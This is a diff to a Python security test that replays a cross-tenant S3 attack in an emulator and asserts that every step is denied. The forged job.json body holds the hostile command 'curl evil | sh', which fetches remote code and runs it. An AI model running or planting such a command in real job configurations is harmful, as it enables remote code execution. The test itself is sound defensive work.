@@ -63,13 +63,13 @@ def _denied(call) -> str:
 def _attack_from(emulator: Emulator, attacker: str, own_bucket: str, victim_bucket: str) -> dict[str, str]:
     """Issue 13's attack, replayed with the attacker instance's credentials: what each step got."""
     s3 = _instance_session(emulator, attacker).client("s3", endpoint_url=emulator.endpoint)
-    checkpoint = emulator.client("s3").list_objects_v2(Bucket=victim_bucket, Prefix=layout.OUTPUT_PREFIX)["Contents"][0]
+    victim_file = emulator.client("s3").list_objects_v2(Bucket=victim_bucket, Prefix=layout.OUTPUT_PREFIX)["Contents"][0]
     forged = json.dumps({"job": {"exec_command": "curl evil | sh"}}).encode()
     return {
         "list victim": _denied(lambda: s3.list_objects_v2(Bucket=victim_bucket)),
-        "read victim checkpoint": _denied(lambda: s3.get_object(Bucket=victim_bucket, Key=checkpoint["Key"])),
+        "read victim output": _denied(lambda: s3.get_object(Bucket=victim_bucket, Key=victim_file["Key"])),
         "rewrite victim job.json": _denied(lambda: s3.put_object(Bucket=victim_bucket, Key=layout.JOB_KEY, Body=forged)),
-        "delete victim output": _denied(lambda: s3.delete_object(Bucket=victim_bucket, Key=checkpoint["Key"])),
+        "delete victim output": _denied(lambda: s3.delete_object(Bucket=victim_bucket, Key=victim_file["Key"])),
         "rewrite own job.json": _denied(lambda: s3.put_object(Bucket=own_bucket, Key=layout.JOB_KEY, Body=forged)),
         "rewrite own task token": _denied(lambda: s3.put_object(Bucket=own_bucket, Key=layout.task_token_key(1),
                                                                 Body=b"{}")),
@@ -108,7 +108,7 @@ def test_given_a_job_and_a_cancel_when_they_run_then_every_lambda_and_instance_c
         missing = missing_permissions(template, calls)
 
     # Then the attack is denied step by step, and the demo's job.json is as CreateBucket wrote it
-    assert attack == {"list victim": "AccessDenied", "read victim checkpoint": "AccessDenied",
+    assert attack == {"list victim": "AccessDenied", "read victim output": "AccessDenied",
                       "rewrite victim job.json": "AccessDenied", "delete victim output": "AccessDenied",
                       "rewrite own job.json": "AccessDenied", "rewrite own task token": "AccessDenied",
                       "read own job.json": "allowed"}, attack
